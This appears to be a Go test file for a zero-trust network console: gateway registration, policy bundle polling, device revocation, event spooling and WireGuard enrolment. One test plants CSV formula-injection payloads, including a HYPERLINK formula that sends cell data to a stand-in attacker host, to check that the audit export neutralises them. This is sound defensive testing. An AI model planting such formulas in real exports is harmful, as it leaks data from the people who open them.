package server

import (
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gonaut/gonaut/apps/console/internal/domain"
	"github.com/gonaut/gonaut/apps/console/internal/store"
	"github.com/gonaut/gonaut/ztna/controlplane"
)

// console runs a Server on a real loopback listener.
type console struct {
	srv  *Server
	http *http.Server
	done chan struct{}
}

func startConsole(t testing.TB, st *store.DB, addr string) *console {
	t.Helper()
	srv, err := New(st, nil)
	if err != nil {
		t.Fatal(err)
	}
	var ln net.Listener
	for i := 0; ; i++ {
		ln, err = net.Listen("tcp", addr)
		if err == nil || i == 50 {
			break
		}
		time.Sleep(100 * time.Millisecond) // the previous console's port may linger
	}
	if err != nil {
		t.Fatal(err)
	}
	c := &console{srv: srv, http: &http.Server{Handler: srv}, done: make(chan struct{})}
	go func() { c.http.Serve(ln); close(c.done) }()
	t.Cleanup(c.stop)
	return c
}

// stop ends the console abruptly: connections are cut, in-flight
// requests get no answer.
func (c *console) stop() {
	c.http.Close()
	<-c.done
	c.srv.Close()
}

func TestControlPlaneLoopback(t *testing.T) {
	e := newEnv(t, nil)
	ln, _ := net.Listen("tcp", "127.0.0.1:0")
	addr := ln.Addr().String()
	ln.Close()
	c := startConsole(t, e.st, addr)

	var created gatewayCreated
	e.mustCall(domain.RoleOperator, "POST", "/api/v1/gateways", gatewayRequest{Name: "edge-1"}, 201, &created)
	var u store.User
	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: domain.RoleViewer, Groups: []string{"eng"}, Password: "correct horse battery"}, 201, &u)
	var en Enrolment
	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "laptop", Owner: u.ID}, 201, &en)
	e.mustCall(domain.RolePolicyEditor, "PUT", "/api/v1/policies/wiki", draft{Source: goodPolicy}, 200, nil)

	state := t.TempDir()
	cl, err := controlplane.New("http://"+addr, &controlplane.Options{StateDir: state})
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()

	if _, err := cl.Bundle(ctx, 0, 0); !errors.Is(err, controlplane.ErrNotRegistered) {
		t.Fatalf("bundle before registering: %v", err)
	}
	if _, err := cl.Register(ctx, "gwt_wrong", "edge-1"); !errors.Is(err, controlplane.ErrUnauthorized) {
		t.Fatalf("register with a wrong token: %v", err)
	}
	cred, err := cl.Register(ctx, created.Token, "edge-1")
	if err != nil || gatewayID(cred) != created.Gateway.ID {
		t.Fatalf("register = %+v, %v", cred, err)
	}
	other, _ := controlplane.New("http://"+addr, nil)
	if _, err := other.Register(ctx, created.Token, "edge-1"); !errors.Is(err, controlplane.ErrUnauthorized) {
		t.Errorf("second use of a one-time token: %v", err)
	}
	other.Close()

	b, err := cl.Bundle(ctx, 0, 0)
	if err != nil || b == nil {
		t.Fatalf("bundle = %v, %v", b, err)
	}
	if len(b.Policies) != 1 || b.Policies[0].Name != "wiki" || len(b.Devices) != 1 || b.Devices[0].PublicKey != en.Device.PublicKey || b.Devices[0].Disabled {
		t.Fatalf("bundle = %+v", b)
	}
	if len(b.Users) != 1 || b.Users[0].Groups[0] != "eng" {
		t.Errorf("bundle users = %+v", b.Users)
	}
	// Nothing new: the long poll waits and answers nothing.
	if nb, err := cl.Bundle(ctx, b.Version, 200*time.Millisecond); nb != nil || err != nil {
		t.Errorf("unchanged bundle = %v, %v", nb, err)
	}

	// Revocation: a gateway watching sees a disabled device within 2 s.
	// The change is made through e.srv, a second Server over the same
	// store, as with two console replicas: c.srv learns of it from the
	// store's configuration version (ConfigPoll), not in-process.
	bundles := make(chan *controlplane.Bundle, 16)
	wctx, wcancel := context.WithCancel(ctx)
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		cl.Watch(wctx, b.Version, func(nb *controlplane.Bundle) { bundles <- nb })
	}()
	time.Sleep(100 * time.Millisecond) // let the long poll start
	disabled := true
	start := time.Now()
	e.mustCall(domain.RoleOperator, "PATCH", "/api/v1/devices/"+en.Device.ID, devicePatch{Disabled: &disabled}, 200, nil)
	var lat time.Duration
	for lat == 0 {
		select {
		case nb := <-bundles:
			if len(nb.Devices) == 1 && nb.Devices[0].Disabled {
				lat = time.Since(start)
			}
		case <-time.After(2 * time.Second):
			t.Fatal("disabled device did not reach the gateway within 2s")
		}
	}
	t.Logf("revocation reached the gateway in %v", lat)
	wcancel()
	wg.Wait()

	// Status heartbeat shows up on the gateway list.
	if err := cl.PushStatus(ctx, controlplane.Status{BundleVersion: b.Version, Peers: 3, Healthy: true}); err != nil {
		t.Fatal(err)
	}
	g, _ := e.st.Gateway(ctx, gatewayID(cred))
	if g.BundleVersion != b.Version || g.LastSeen.IsZero() {
		t.Errorf("gateway after heartbeat = %+v", g)
	}

	// Events: emitted while the console runs, while it is down, and after
	// it restarts; every one arrives exactly once.
	const perPhase = 300
	emit := func(phase string) {
		for i := range perPhase {
			err := cl.Emit(controlplane.Event{Kind: "decision", Subject: u.ID, Resource: "wiki", Effect: "allow", Device: en.Device.ID, ID: fmt.Sprintf("%s-%d", phase, i)})
			if err != nil {
				t.Fatal(err)
			}
		}
	}
	emit("up")
	waitPending(t, cl, 0)
	c.stop()
	emit("down")
	if n, _ := cl.Pending(); n != perPhase {
		t.Errorf("%d events spooled while the console is down, want %d", n, perPhase)
	}
	// A gateway restart in between: a new client on the same state
	// directory picks up the spool and the credential.
	cl.Close()
	cl, err = controlplane.New("http://"+addr, &controlplane.Options{StateDir: state, RetryMax: 200 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	if cl.Credential().GatewayID != cred.GatewayID {
		t.Errorf("credential not reloaded from the state directory")
	}
	startConsole(t, e.st, addr)
	emit("after")
	waitPending(t, cl, 0)
	// Resending what was already acknowledged changes nothing.
	emit("up")
	waitPending(t, cl, 0)

	n := 0
	f := store.AuditFilter{Action: "decision", Limit: 1000}
	for {
		es, _ := e.st.ListAudit(ctx, f)
		n += len(es)
		if len(es) < 1000 {
			break
		}
		f.Before = es[len(es)-1].Seq
	}
	if n != 3*perPhase {
		t.Errorf("%d decisions stored, want %d exactly once each", n, 3*perPhase)
	}
	rep, _ := e.st.VerifyAudit(ctx)
	if !rep.OK {
		t.Errorf("audit chain broken: %+v", rep)
	}

	// A revoked gateway is refused.
	e.mustCall(domain.RoleOperator, "DELETE", "/api/v1/gateways/"+gatewayID(cred), nil, 204, nil)
	if _, err := cl.Bundle(ctx, 0, 0); !errors.Is(err, controlplane.ErrUnauthorized) {
		t.Errorf("revoked gateway pulled a bundle: %v", err)
	}
}

func waitPending(t *testing.T, cl *controlplane.Client, want int) {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for {
		n, err := cl.Pending()
		if err == nil && n == want {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d events still pending, want %d", n, want)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestEnrolmentFromGatewayStatus checks that a device's wg-quick config
// takes the gateway's key, endpoint, DNS and routes from the gateway's
// status when the console's settings say nothing, and the settings when
// they do.
func TestEnrolmentFromGatewayStatus(t *testing.T) {
	e := newEnv(t, nil)
	hs := httptest.NewServer(e.srv)
	t.Cleanup(hs.Close)
	var created gatewayCreated
	e.mustCall(domain.RoleOperator, "POST", "/api/v1/gateways", gatewayRequest{Name: "edge-1"}, 201, &created)
	cl, err := controlplane.New(hs.URL, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	ctx := context.Background()
	if _, err := cl.Register(ctx, created.Token, "edge-1"); err != nil {
		t.Fatal(err)
	}
	var u store.User
	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: domain.RoleViewer, Password: "correct horse battery"}, 201, &u)
	var en Enrolment
	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "before", Owner: u.ID}, 201, &en)
	if !strings.Contains(en.Config, "<the gateway's public key>") || strings.Contains(en.Config, "DNS") {
		t.Errorf("config before any status:\n%s", en.Config)
	}
	const key = "pgy/H8Q0pHKgC3ZBnS+mohwtgY++ps7KybtXKtiWQgQ="
	if err := cl.PushStatus(ctx, controlplane.Status{PublicKey: key, Endpoint: "gw.example.com:51820", DNS: "10.77.0.1", Routes: []string{"10.77.0.1/32", "10.78.0.0/16"}}); err != nil {
		t.Fatal(err)
	}
	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "after", Owner: u.ID}, 201, &en)
	for _, want := range []string{"PublicKey = " + key, "Endpoint = gw.example.com:51820", "DNS = 10.77.0.1", "AllowedIPs = 10.77.0.1/32, 10.78.0.0/16"} {
		if !strings.Contains(en.Config, want) {
			t.Errorf("config lacks %q:\n%s", want, en.Config)
		}
	}
	if err := e.st.SetSetting(ctx, SettingWGEndpoint, "vpn.example.com:443"); err != nil {
		t.Fatal(err)
	}
	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/devices", enrolRequest{Name: "setting", Owner: u.ID}, 201, &en)
	if !strings.Contains(en.Config, "Endpoint = vpn.example.com:443") || !strings.Contains(en.Config, "PublicKey = "+key) {
		t.Errorf("the endpoint setting did not win:\n%s", en.Config)
	}
}

// TestGatewayCannotPlantCSVFormulas: a registered gateway sends an event
// whose every free-text field is a spreadsheet formula (its kind, effect,
// subject and device must be ones the console knows); the auditor's CSV
// export must not hand a spreadsheet any cell it would evaluate.
func TestGatewayCannotPlantCSVFormulas(t *testing.T) {
	e, base := listeningConsole(t, nil)

	var created gatewayCreated
	e.mustCall(domain.RoleOperator, "POST", "/api/v1/gateways", gatewayRequest{Name: "edge-1"}, 201, &created)
	cl, err := controlplane.New(base, &controlplane.Options{StateDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if _, err := cl.Register(ctx, created.Token, "edge-1"); err != nil {
		t.Fatal(err)
	}
	var u store.User
	e.mustCall(domain.RoleAdmin, "POST", "/api/v1/users", userRequest{Email: "ada@example.com", Role: domain.RoleViewer, Password: "correct horse battery"}, 201, &u)
	formula := `=HYPERLINK("http://evil.example/?"&A1)`
	if err := cl.Emit(controlplane.Event{Kind: "decision", Subject: u.ID, Resource: "-2+3", Effect: "deny", Rule: formula, Message: "@SUM(1)", Source: "+1+1", ID: formula}); err != nil {
		t.Fatal(err)
	}
	waitPending(t, cl, 0)

	resp := e.call(domain.RoleAuditor, "GET", "/api/v1/audit/export?format=csv&action=decision", nil, nil)
	defer resp.Body.Close()
	rows, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < 2 {
		t.Fatalf("export has %d rows, want the header and the gateway's decision", len(rows))
	}
	found := false
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s holds a live formula: %q", rows[0][i], cell)
			}
			if strings.Contains(cell, "HYPERLINK") {
				found = true
			}
		}
	}
	if !found {
		t.Fatalf("the gateway's event is not in the export: %q", rows)
	}
}

// gatewayID is the console's id of the gateway a credential is of: the
// credential's GatewayID without its tenant's prefix.
func gatewayID(c controlplane.Credential) string {
	_, id := domain.SplitCredential(c.GatewayID)
	return id
}
